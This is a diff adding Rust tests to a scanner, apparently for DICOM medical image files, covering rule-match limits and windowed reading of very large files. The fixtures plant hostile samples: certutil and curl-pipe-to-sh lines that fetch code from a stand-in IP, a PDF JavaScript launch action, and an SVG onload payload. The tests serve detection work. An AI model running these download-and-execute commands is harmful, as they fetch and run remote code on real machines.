@@ -436,6 +436,114 @@ fn site_rules_apply_to_files_and_to_encapsulated_documents() {
     assert!(stderr(&out).contains("broken.yar"), "{}", stderr(&out));
 }
 
+/// MAX_RULE_FINDINGS at its edge: a file matched by exactly that many rules lists every
+/// match and nothing more; one rule more, and the extra match is said not to be listed
+/// (a warning naming the limit), never dropped in silence.
+#[test]
+fn rule_matches_are_listed_to_their_limit_and_the_rest_counted() {
+    let limit = pacsguard_screen::MAX_RULE_FINDINGS;
+    let env = Env::new();
+    let file = env.path("ct.dcm");
+    fs::write(&file, DicomBuilder::ct("1.2.3.97").build()).expect("write");
+    for (dir, rules) in [("at", limit), ("over", limit + 1)] {
+        let dir = env.dir.path().join(dir);
+        fs::create_dir_all(&dir).expect("mkdir");
+        let source: String = (0..rules)
+            .map(|n| {
+                format!(
+                    "rule dicm_{n} {{ meta: severity = \"info\" strings: $a = \"DICM\" condition: $a }}\n"
+                )
+            })
+            .collect();
+        fs::write(dir.join("many.yar"), source).expect("write");
+        let (code, json) = scan_json(
+            &env,
+            &[
+                "--rules",
+                dir.to_str().expect("utf-8"),
+                file.to_str().expect("utf-8"),
+            ],
+        );
+        let findings = findings_of(&json, &file);
+        let matches = findings
+            .iter()
+            .filter(|f| f["kind"] == "yara-match")
+            .count();
+        let not_listed: Vec<_> = findings
+            .iter()
+            .filter(|f| {
+                f["kind"] == "not-inspected"
+                    && f["detail"]
+                        .as_str()
+                        .is_some_and(|d| d.contains(&format!("limit {limit}")))
+            })
+            .collect();
+        assert_eq!(matches, limit, "{json:#}");
+        if rules == limit {
+            assert_eq!(code, 0, "{json:#}");
+            assert!(not_listed.is_empty(), "{json:#}");
+        } else {
+            assert_eq!(code, 1, "{json:#}");
+            assert_eq!(not_listed.len(), 1, "{json:#}");
+            assert!(
+                not_listed[0]["detail"]
+                    .as_str()
+                    .is_some_and(|d| d.starts_with("1 more rule match")),
+                "{json:#}"
+            );
+        }
+    }
+}
+
+/// MAX_MATCHES_PER_PATTERN at its edge: yara-x keeps that many matches of a pattern, so
+/// a rule counting past them (`#a > 5000`) cannot match however many there are. Below
+/// the limit nothing is said; at it, the rule that did not match is named as not
+/// evaluated on further matches (it was silent).
+#[test]
+fn a_pattern_reaching_its_match_limit_is_said_to_in_rules_that_did_not_match() {
+    let limit = pacsguard_screen::MAX_MATCHES_PER_PATTERN;
+    let env = Env::new();
+    let rules = env.dir.path().join("rules");
+    fs::create_dir_all(&rules).expect("mkdir");
+    fs::write(
+        rules.join("count.yar"),
+        "rule many_ab { meta: severity = \"alert\" strings: $ab = \"AB;\" condition: #ab > 5000 }",
+    )
+    .expect("write");
+    for (name, count) in [("below.txt", limit - 1), ("at.txt", limit)] {
+        let file = env.path(name);
+        fs::write(&file, "AB; ".repeat(count)).expect("write");
+        let (_, json) = scan_json(
+            &env,
+            &[
+                "--rules",
+                rules.to_str().expect("utf-8"),
+                file.to_str().expect("utf-8"),
+            ],
+        );
+        let capped: Vec<_> = findings_of(&json, &file)
+            .into_iter()
+            .filter(|f| {
+                f["detail"]
+                    .as_str()
+                    .is_some_and(|d| d.contains("MAX_MATCHES_PER_PATTERN"))
+            })
+            .collect();
+        if count < limit {
+            assert!(capped.is_empty(), "{json:#}");
+        } else {
+            assert_eq!(capped.len(), 1, "{json:#}");
+            assert_eq!(capped[0]["severity"], "warning", "{json:#}");
+            assert!(
+                capped[0]["detail"]
+                    .as_str()
+                    .is_some_and(|d| d.contains("default:many_ab $ab")),
+                "{json:#}"
+            );
+        }
+    }
+}
+
 #[test]
 fn preamble_only_finds_preamble_polyglots_from_the_first_page() {
     let env = Env::new();
@@ -466,6 +574,25 @@ fn preamble_only_finds_preamble_polyglots_from_the_first_page() {
     assert_eq!(out.status.code(), Some(2));
 }
 
+/// The start of a large image: a CT header and 1 MiB of noisy pixel data, as the first
+/// window of a real one holds. Its bytes end sh at a syntax error as real pixel data does
+/// (a header alone, then NUL bytes, which dash drops, does not: sh would read on, and
+/// the scan says it did not follow sh past the first window).
+fn large_image_head(sop_instance: &str) -> Vec<u8> {
+    let mut state = 0x2545_f491_4f6c_dd1du64;
+    let noise = (0..1024 * 1024)
+        .map(|_| {
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            state.to_le_bytes()[3]
+        })
+        .collect();
+    DicomBuilder::ct(sop_instance)
+        .pixels(kit::Pixels::Native(noise))
+        .build()
+}
+
 /// Issue 10, class 4: a file over the whole-file limit is read in windows, never skipped:
 /// a PE in the middle of a sparse file far over the limit and a ZIP at its very end are
 /// found, and nothing is reported as not inspected.
@@ -477,8 +604,7 @@ fn files_over_the_whole_file_limit_are_read_in_windows_not_skipped() {
     let huge = env.path("wsi.dcm");
     let mut file = fs::File::create(&huge).expect("create");
     let size = pacsguard_engine::MAX_WHOLE_FILE_BYTES + 3 * 1024 * 1024;
-    file.write_all(&DicomBuilder::ct("1.2.3.99").without_pixels().build())
-        .expect("head");
+    file.write_all(&large_image_head("1.2.3.99")).expect("head");
     // Sparse: the holes cost no disk space.
     let pe_at = pacsguard_engine::MAX_WHOLE_FILE_BYTES / 2 + 12_345;
     file.seek(SeekFrom::Start(pe_at)).expect("seek");
@@ -501,6 +627,93 @@ fn files_over_the_whole_file_limit_are_read_in_windows_not_skipped() {
     assert_eq!(at("zip"), Some(size - 22), "{json:#}");
     assert!(
         findings.iter().all(|f| f["severity"] != "warning"),
+        "{json:#}"
+    );
+}
+
+/// Issue 10, class 4 (session 10): the windows after the first ran only the markup and
+/// embedded searches, so a PDF, a batch line or an ex escape deep inside a huge file was
+/// missed. Each kind is planted past the first window, away from any window's first
+/// kilobyte (where the embedded search already looked for a PDF header), and each is an
+/// alert with its format at its offset.
+#[test]
+fn every_reader_searches_every_window_of_a_file_read_in_windows() {
+    use std::io::{Seek as _, SeekFrom, Write as _};
+
+    let env = Env::new();
+    let huge = env.path("wsi-readers.dcm");
+    let mut file = fs::File::create(&huge).expect("create");
+    let size = pacsguard_engine::MAX_WHOLE_FILE_BYTES + 3 * 1024 * 1024;
+    file.write_all(&large_image_head("1.2.3.98")).expect("head");
+    let mib = 1024 * 1024;
+    let pdf = kit::pdf("/OpenAction << /S /JavaScript /JS (app.launchURL('x')) >>");
+    let planted: [(u64, &[u8], &str); 4] = [
+        (100 * mib + 777, &pdf, "pdf"),
+        (
+            140 * mib + 3,
+            b"\r\ncertutil -urlcache -split -f http://203.0.113.7/a.exe a.exe\r\n",
+            "batch",
+        ),
+        (
+            180 * mib + 11,
+            b"\n:!curl -s http://203.0.113.7/x | sh\n",
+            "shell",
+        ),
+        (220 * mib + 5, b"<svg onload=alert(1)>", "html"),
+    ];
+    for (at, bytes, _) in &planted {
+        file.seek(SeekFrom::Start(*at)).expect("seek");
+        file.write_all(bytes).expect("plant");
+    }
+    file.set_len(size).expect("sparse");
+    drop(file);
+    let (code, json) = scan_json(&env, &[huge.to_str().expect("utf-8")]);
+    assert_eq!(code, 1, "{json:#}");
+    let findings = findings_of(&json, &huge);
+    for (at, bytes, format) in planted {
+        let end = at + bytes.len() as u64;
+        assert!(
+            findings.iter().any(|f| f["format"] == format
+                && f["severity"] == "alert"
+                && f["offset"].as_u64().is_some_and(|o| (at..end).contains(&o))),
+            "{format} at {at}: {json:#}"
+        );
+    }
+    // The CT header stops sh at a syntax error: no warning that sh reads on.
+    assert!(
+        findings.iter().all(|f| f["severity"] != "warning"),
+        "{json:#}"
+    );
+}
+
+/// sh is the one reader that cannot start from a later window: it stops at the first
+/// syntax error from the file's start. A file whose first window holds none (text, then
+/// NUL bytes that dash drops) is said not to be inspected for shell commands past it,
+/// never passed over in silence.
+#[test]
+fn a_file_sh_reads_past_its_first_window_is_said_not_inspected_for_shell() {
+    use std::io::{Seek as _, SeekFrom, Write as _};
+
+    let env = Env::new();
+    let huge = env.path("long.log");
+    let mut file = fs::File::create(&huge).expect("create");
+    file.write_all(b"started\n").expect("head");
+    file.seek(SeekFrom::Start(200 * 1024 * 1024)).expect("seek");
+    file.write_all(b"\ncurl -s http://203.0.113.7/x | sh\n")
+        .expect("command");
+    file.set_len(pacsguard_engine::MAX_WHOLE_FILE_BYTES + 1)
+        .expect("sparse");
+    drop(file);
+    let (code, json) = scan_json(&env, &[huge.to_str().expect("utf-8")]);
+    assert_eq!(code, 1, "{json:#}");
+    let findings = findings_of(&json, &huge);
+    assert!(
+        findings.iter().any(|f| f["kind"] == "not-inspected"
+            && f["format"] == "shell"
+            && f["severity"] == "warning"
+            && f["detail"]
+                .as_str()
+                .is_some_and(|d| d.contains("shell commands"))),
         "{json:#}"
     );
 }
